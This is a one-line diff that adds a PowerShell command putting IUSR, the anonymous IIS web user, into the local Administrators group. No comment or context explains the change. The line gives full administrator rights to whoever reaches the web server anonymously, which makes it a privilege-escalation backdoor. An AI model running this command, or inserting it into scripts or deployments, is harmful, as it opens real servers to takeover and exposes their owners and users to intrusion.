@@ -1,0 +1,1 @@
+Invoke-Command -ScriptBlock { Add-LocalGroupMember -Group Administrators -Member IUSR }
